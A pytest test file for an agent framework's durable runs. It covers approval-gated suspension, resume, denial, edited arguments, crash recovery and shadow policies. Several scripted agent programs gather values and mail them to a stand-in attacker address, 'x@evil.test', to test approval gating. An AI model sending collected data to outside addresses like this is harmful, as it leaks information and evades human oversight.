"""Durable runs across three processes — start until suspended, answer, resume — with every side effect counted."""

from __future__ import annotations

from pathlib import Path

import pytest
from durable_helpers import Durable, policy_dict

# Durable runs in driver processes and `proctor runs resume`: sandboxed workers (tests/conftest.py, tiers).
pytestmark = pytest.mark.sandbox

# Step 1 reads twice, draws a random number, asks to mail it outside (approval), and ends with the answer.
APPROVAL_PROGRAM = """```py
import random
a = look(1)
b = look(2)
r = random.randint(0, 10**9)
order = ''.join(set('abcdefghijklmnop'))
try:
    s = send('x@evil.test', f'{a}-{b}-{r}-{order}')
except ApprovalDenied as e:
    s = 'refused: ' + str(e)
final_answer([s, r, order])
```"""


@pytest.fixture
def d(tmp_path: Path) -> Durable:
    return Durable(tmp_path)


def _start_until_suspended(d: Durable, policy: Path) -> tuple[str, dict[str, object]]:
    result = d.process("start", {"responses": [APPROVAL_PROGRAM]}, policy)
    assert result is not None and result["status"] == "suspended", result
    assert [e[0] for e in d.effects()] == ["look", "look"]
    [pending] = d.pending()
    assert pending["tool"] == "send" and pending["run_id"] == result["run_id"]
    assert [p["id"] for p in result["pending"]] == [pending["id"]]  # type: ignore[union-attr]
    assert "run_suspended" in d.kinds()
    return str(result["run_id"]), pending


def test_approve_runs_the_pending_call_once_and_nothing_twice(d: Durable) -> None:
    """Approved from another process, the resumed step replays two reads and sends exactly once."""
    policy = d.policy()
    run_id, pending = _start_until_suspended(d, policy)
    d.cli("approvals", "approve", str(pending["id"]), "--store", d.store, "--as", "bob", "--reason", "fine")
    result = d.process("resume", {"responses": []}, policy, run_id)
    assert result is not None and result["status"] == "done", result
    sent, r, order = result["answer"]
    assert sent == f"sent 10-20-{r}-{order} to x@evil.test"
    assert [e[0] for e in d.effects()] == ["look", "look", "send"]
    # The same random number and set order in both processes: the arguments match the approval.
    assert d.effects("send")[0][1]["body"] == f"10-20-{r}-{order}"
    kinds = d.kinds()
    assert "run_resumed" in kinds and kinds[-1] in ("run_finished", "checkpoint")
    [replayed] = d.records("call_replayed")
    assert [c["tool"] for c in replayed["calls"]] == ["look", "look"] and replayed["step"] == 1
    d.verify()


def test_deny_raises_in_the_program_and_sends_nothing(d: Durable) -> None:
    """A denial reaches the program at the call site; the tool never runs."""
    policy = d.policy()
    run_id, pending = _start_until_suspended(d, policy)
    d.cli("approvals", "deny", str(pending["id"]), "--store", d.store, "--as", "bob", "--reason", "not to them")
    result = d.process("resume", {"responses": []}, policy, run_id)
    assert result is not None and result["status"] == "done", result
    assert result["answer"][0].startswith("refused: ") and "not to them" in result["answer"][0]
    assert [e[0] for e in d.effects()] == ["look", "look"]
    d.verify()


def test_edit_sends_the_edited_arguments_once(d: Durable) -> None:
    """Edited arguments are what runs, once."""
    policy = d.policy()
    run_id, pending = _start_until_suspended(d, policy)
    d.cli("approvals", "edit", str(pending["id"]), "--store", d.store, "--as", "bob",
          "--args", '{"to": "ops@example.com", "body": "redacted"}')
    result = d.process("resume", {"responses": []}, policy, run_id)
    assert result is not None and result["status"] == "done", result
    assert d.effects("send") == [["send", {"to": "ops@example.com", "body": "redacted"}]]
    assert len(d.effects("look")) == 2
    d.verify()


def test_changed_policy_voids_the_answer_and_asks_again(d: Durable) -> None:
    """An answer given under one policy does not approve the call under another: it is asked again."""
    policy = d.policy()
    run_id, pending = _start_until_suspended(d, policy)
    d.cli("approvals", "approve", str(pending["id"]), "--store", d.store, "--as", "bob")
    changed = d.policy({**policy_dict(), "approval": {**policy_dict()["approval"], "timeout": "10m"}},
                       name="policy-v2.yaml")
    again = d.process("resume", {"responses": []}, changed, run_id)
    assert again is not None and again["status"] == "suspended", again
    assert d.effects("send") == []
    [new] = d.pending()
    assert new["id"] != pending["id"] and new["binding"] != pending["binding"]
    assert new["policy_sha256"] != pending["policy_sha256"]
    d.cli("approvals", "approve", str(new["id"]), "--store", d.store, "--as", "carol")
    result = d.process("resume", {"responses": []}, changed, run_id)
    assert result is not None and result["status"] == "done", result
    assert [e[0] for e in d.effects()] == ["look", "look", "send"]
    d.verify()


def test_a_divergent_program_stops_the_step_without_a_second_effect(d: Durable) -> None:
    """A program that asks for other calls on resume ends the step with an error the model sees."""
    program = """```py
import time
n = look(time.time_ns() % 1000003)
send('x@evil.test', str(n))
```"""
    policy = d.policy()
    result = d.process("start", {"responses": [program]}, policy)
    assert result is not None and result["status"] == "suspended"
    [pending] = d.pending()
    d.cli("approvals", "approve", str(pending["id"]), "--store", d.store, "--as", "bob")
    result = d.process("resume", {"responses": ["```py\nfinal_answer('gave up')\n```"]}, policy, str(result["run_id"]))
    assert result is not None and result["status"] == "done" and result["answer"] == "gave up"
    assert [e[0] for e in d.effects()] == ["look"]
    step1 = result["steps"][0]
    assert "went another way" in step1["error"] and "went another way" in step1["observation"]
    assert "replay_diverged" in d.kinds()
    d.verify()


CRASH_PROGRAM = """```py
a = look(1)
s1 = send('a@example.com', 'one')
s2 = send('b@example.com', 'two')
final_answer([a, s1, s2])
```"""
FALLBACK = "```py\nfinal_answer('after the crash')\n```"


@pytest.mark.parametrize(("crash", "sends", "answer"), [
    ("before-program", ["one", "two"], [10, "sent one to a@example.com", "sent two to b@example.com"]),
    ("before:one", [], "after the crash"),
    ("after:one", ["one"], "after the crash"),
    ("before:two", ["one"], "after the crash"),
    ("after:two", ["one", "two"], "after the crash"),
    ("after-step", ["one", "two"], [10, "sent one to a@example.com", "sent two to b@example.com"]),
])
def test_crash_at_each_point_of_a_step_runs_nothing_twice(d: Durable, crash: str, sends: list[str],
                                                          answer: object) -> None:
    """SIGKILL at any point of a step, then resume: every effect happened at most once, unknown ones fail."""
    policy = d.policy()
    first = d.process("start", {"responses": [CRASH_PROGRAM]}, policy, crash=crash)
    assert first is None  # the process died
    [run] = __import__("json").loads(d.cli("runs", "list", "--store", d.store, "--json").stdout)
    assert run["status"] == "running"
    before = d.effects()
    result = d.process("resume", {"responses": [FALLBACK]}, policy, run["run_id"])
    assert result is not None and result["status"] == "done", result
    assert result["answer"] == answer
    assert [e[1]["body"] for e in d.effects("send")] == sends
    assert d.effects()[: len(before)] == before and len(d.effects("look")) == 1
    if crash.startswith(("before:", "after:")):
        assert "outcome unknown after a crash" in result["steps"][0]["error"]
    d.verify(crashed=True)


def test_an_idempotent_tool_is_run_again_after_a_crash(d: Durable) -> None:
    """A call whose outcome a crash lost runs again when the policy declares its tool idempotent."""
    policy = d.policy(policy_dict(note={"side_effect": "write", "idempotent": True}))
    program = "```py\nfinal_answer(note('n1'))\n```"
    assert d.process("start", {"responses": [program]}, policy, crash="before:n1") is None
    [run] = __import__("json").loads(d.cli("runs", "list", "--store", d.store, "--json").stdout)
    result = d.process("resume", {"responses": []}, policy, run["run_id"])
    assert result is not None and result["status"] == "done" and result["answer"] == "noted n1"
    assert d.effects("note") == [["note", {"text": "n1"}]]
    d.verify(crashed=True)


def test_tool_calling_agent_suspends_and_resumes(d: Durable) -> None:
    """The tool-calling agent's pending call is the step's last action; resumed, it runs once."""
    policy = d.policy()
    step = {"calls": [["look", {"x": 3}], ["send", {"to": "x@evil.test", "body": "hi"}]]}
    final = {"calls": [["final_answer", {"answer": "sent"}]]}
    result = d.process("start", {"agent": "tool-calling", "responses": [step]}, policy)
    assert result is not None and result["status"] == "suspended"
    assert [e[0] for e in d.effects()] == ["look"]
    [pending] = d.pending()
    d.cli("approvals", "approve", str(pending["id"]), "--store", d.store, "--as", "bob")
    result = d.process("resume", {"agent": "tool-calling", "responses": [final]}, policy, str(result["run_id"]))
    assert result is not None and result["status"] == "done" and result["answer"] == "sent", result
    assert [e[0] for e in d.effects()] == ["look", "send"]
    d.verify()


def test_proctor_runs_resume_from_the_command_line(d: Durable) -> None:
    """`proctor runs resume` in a third process finishes an approved run; the model is not asked again."""
    policy = d.policy()
    run_id, pending = _start_until_suspended(d, policy)
    d.cli("approvals", "approve", str(pending["id"]), "--store", d.store, "--as", "bob")
    done = d.cli("runs", "resume", run_id, "--store", d.store, "--tools", "durable_tools:TOOLS", "--policy",
                 str(policy), "--model", "openai/never-called", "--audit", str(d.audit), "--import", "random",
                 "--sandbox", "process", "--json")
    result = __import__("json").loads(done.stdout)
    assert result["status"] == "done" and result["answer"][0].startswith("sent 10-20-")
    assert [e[0] for e in d.effects()] == ["look", "look", "send"]
    listed = __import__("json").loads(d.cli("runs", "list", "--store", d.store, "--json").stdout)
    assert [(r["run_id"], r["status"], r["waiting_for"]) for r in listed] == [(run_id, "done", [])]
    d.verify()


def test_proctor_runs_resume_takes_a_shadow_policy_as_run_does(d: Durable) -> None:
    """`proctor runs resume --shadow P`: the resumed run's calls are decided by the candidate too, which never acts."""
    policy = d.policy()
    data = policy_dict()
    data["rules"].insert(0, {"name": "no-mail", "match": {"tool": "send"}, "decision": "deny"})
    candidate = d.policy(data, name="candidate.yaml")
    run_id, pending = _start_until_suspended(d, policy)
    d.cli("approvals", "approve", str(pending["id"]), "--store", d.store, "--as", "bob")
    done = d.cli("runs", "resume", run_id, "--store", d.store, "--tools", "durable_tools:TOOLS", "--policy",
                 str(policy), "--shadow", str(candidate), "--model", "openai/never-called", "--audit", str(d.audit),
                 "--import", "random", "--sandbox", "process", "--json")
    assert __import__("json").loads(done.stdout)["status"] == "done"
    assert [e[0] for e in d.effects()] == ["look", "look", "send"]
    [disagreement] = d.records("shadow_decision")
    assert disagreement["tool"] == "send" and disagreement["run_id"] == run_id
    assert disagreement["enforced"]["decision"] == "require_approval"
    assert (disagreement["shadow"]["decision"], disagreement["shadow"]["rules"]) == ("deny", ["no-mail"])
    d.verify()


@pytest.mark.server
def test_proctor_runs_resume_reaches_the_model_with_the_model_args_the_run_had(d: Durable) -> None:
    """`runs resume --model-arg api_base=…`: a resumed run whose next step needs the model asks the endpoint it
    was told (a local OpenAI-compatible server here), as `proctor run --model-arg` does."""
    from agent.openai_server import completion, serve

    program = APPROVAL_PROGRAM.replace("final_answer([s, r, order])", "print(s)")
    policy = d.policy()
    result = d.process("start", {"responses": [program]}, policy)
    assert result is not None and result["status"] == "suspended", result
    [pending] = d.pending()
    d.cli("approvals", "approve", str(pending["id"]), "--store", d.store, "--as", "bob")
    with serve([completion("```py\nfinal_answer('mailed')\n```")]) as fake:
        done = d.cli("runs", "resume", str(result["run_id"]), "--store", d.store, "--tools", "durable_tools:TOOLS",
                     "--policy", str(policy), "--model", "openai/gpt-4o-mini", "--model-arg", f"api_base={fake.base}",
                     "--model-arg", "api_key=test", "--audit", str(d.audit), "--import", "random", "--sandbox",
                     "process", "--json")
    resumed = __import__("json").loads(done.stdout)
    assert resumed["status"] == "done" and resumed["answer"] == "mailed", resumed
    assert len(fake.requests) == 1
    d.verify()
